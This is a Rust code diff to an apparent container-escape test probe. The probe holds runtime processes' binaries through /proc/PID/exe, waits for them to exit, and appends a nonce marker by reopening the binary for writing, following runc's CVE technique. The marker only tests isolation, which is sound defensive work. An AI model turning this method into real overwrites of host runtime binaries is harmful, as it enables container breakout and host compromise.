@@ -165,8 +165,14 @@ impl Probe for ProcSelfExe {
         fs::copy(&bb, &exe).map_err(|e| arrange_err(id, "copying busybox", e))?;
         fs::set_permissions(&exe, fs::Permissions::from_mode(0o755))
             .map_err(|e| arrange_err(id, "chmod 0755 of the executable", e))?;
+        let mut args = vec![kv("exe", exe.display()), kv("nonce", &nonce)];
+        if let Some(r) = &runtime {
+            // Which of the runtime processes in view to wait for (the others run on): the
+            // inside still reaches its binary only through /proc/PID/exe.
+            args.push(kv("runtime", r.bin.display()));
+        }
         Ok(arrangement(
-            vec![kv("exe", exe.display()), kv("nonce", &nonce)],
+            args,
             State {
                 _dir: dir,
                 exe,
@@ -178,10 +184,14 @@ impl Probe for ProcSelfExe {
 
     fn attempt(&self, args: &[String]) -> InsideReport {
         let mut steps = Steps::new(META.id);
-        if let Some((exe, nonce)) = parse_or_report(&mut steps, args, |a| {
-            Ok((PathBuf::from(a.str("exe")?), a.str("nonce")?.to_string()))
+        if let Some((exe, nonce, runtime)) = parse_or_report(&mut steps, args, |a| {
+            Ok((
+                PathBuf::from(a.str("exe")?),
+                a.str("nonce")?.to_string(),
+                a.opt_str("runtime").map(str::to_string),
+            ))
         }) {
-            attempt(&mut steps, &exe, &nonce);
+            attempt(&mut steps, &exe, &nonce, runtime.as_deref());
         }
         steps.finish()
     }
@@ -226,7 +236,7 @@ impl Drop for Reaped {
 }
 
 /// Runtime processes in view: comm, argv[0] or exe link named `breakout` (not the probe).
-fn runtime_processes() -> Vec<(i32, String)> {
+fn runtime_processes() -> Vec<(i32, String, String)> {
     let me = std::process::id() as i32;
     let named = |s: &str| {
         let base = s.rsplit('/').next().unwrap_or(s);
@@ -254,7 +264,7 @@ fn runtime_processes() -> Vec<(i32, String)> {
             .map(|p| p.display().to_string())
             .unwrap_or_default();
         if named(comm.trim()) || named(&argv0) || named(exe.trim_end_matches(" (deleted)")) {
-            found.push((pid, format!("{} {argv0}", comm.trim())));
+            found.push((pid, format!("{} {argv0}", comm.trim()), argv0));
         }
     }
     found
@@ -272,7 +282,7 @@ fn alive(pid: i32) -> bool {
 
 /// Hold every visible runtime process's binary by its exe link (while it runs: the link needs
 /// the process alive).
-fn hold_runtimes(steps: &mut Steps) -> Vec<(i32, OwnedFd)> {
+fn hold_runtimes(steps: &mut Steps) -> Vec<Held> {
     let found = runtime_processes();
     steps.note(
         "find runtime processes",
@@ -281,13 +291,13 @@ fn hold_runtimes(steps: &mut Steps) -> Vec<(i32, OwnedFd)> {
         } else {
             found
                 .iter()
-                .map(|(p, what)| format!("{p} ({what})"))
+                .map(|(p, what, _)| format!("{p} ({what})"))
                 .collect::<Vec<_>>()
                 .join(", ")
         },
     );
     let mut held = Vec::new();
-    for (pid, _) in found {
+    for (pid, _, argv0) in found {
         let link = format!("/proc/{pid}/exe");
         if let Some(fd) = io_keep(
             steps,
@@ -301,23 +311,34 @@ fn hold_runtimes(steps: &mut Steps) -> Vec<(i32, OwnedFd)> {
                     .map(OwnedFd::from)
             },
         ) {
-            held.push((pid, fd));
+            held.push(Held { pid, argv0, fd });
         }
     }
     held
 }
 
-/// Wait until held runtime processes end (the daemonised child of runc's CVE outliving it),
-/// then append the marker to each ended one's binary through the held descriptor.
-fn write_runtimes(steps: &mut Steps, held: Vec<(i32, OwnedFd)>, nonce: &str) {
+/// A runtime process's binary, held by its exe link.
+struct Held {
+    pid: i32,
+    argv0: String,
+    fd: OwnedFd,
+}
+
+/// Wait until the held runtime processes end (the daemonised child of runc's CVE outliving
+/// it), then append the marker to each ended one's binary through the held descriptor. Waits
+/// for the processes running `wait_for` (the others, such as the orchestrator, run on) and
+/// writes whatever has ended by then.
+fn write_runtimes(steps: &mut Steps, held: Vec<Held>, nonce: &str, wait_for: Option<&str>) {
     if held.is_empty() {
         return;
     }
     let deadline = Instant::now() + RUNTIME_WAIT;
-    while held.iter().all(|(pid, _)| alive(*pid)) && Instant::now() < deadline {
+    let awaited = |h: &Held| wait_for.is_some_and(|w| h.argv0 == w);
+    while held.iter().any(|h| awaited(h) && alive(h.pid)) && Instant::now() < deadline {
         std::thread::sleep(Duration::from_millis(50));
     }
-    for (pid, fd) in held {
+    for h in held {
+        let pid = h.pid;
         if alive(pid) {
             steps.note(
                 "wait for the runtime to end",
@@ -325,7 +346,7 @@ fn write_runtimes(steps: &mut Steps, held: Vec<(i32, OwnedFd)>, nonce: &str) {
             );
             continue;
         }
-        let reopen = format!("/proc/self/fd/{}", fd.as_raw_fd());
+        let reopen = format!("/proc/self/fd/{}", h.fd.as_raw_fd());
         let writer = io_keep(
             steps,
             "reopen the ended runtime's binary for writing",
@@ -342,10 +363,10 @@ fn write_runtimes(steps: &mut Steps, held: Vec<(i32, OwnedFd)>, nonce: &str) {
     }
 }
 
-fn attempt(steps: &mut Steps, exe: &Path, nonce: &str) {
+fn attempt(steps: &mut Steps, exe: &Path, nonce: &str, runtime: Option<&str>) {
     let held = hold_runtimes(steps);
     attempt_planted(steps, exe, nonce);
-    write_runtimes(steps, held, nonce);
+    write_runtimes(steps, held, nonce, runtime);
 }
 
 fn attempt_planted(steps: &mut Steps, exe: &Path, nonce: &str) {
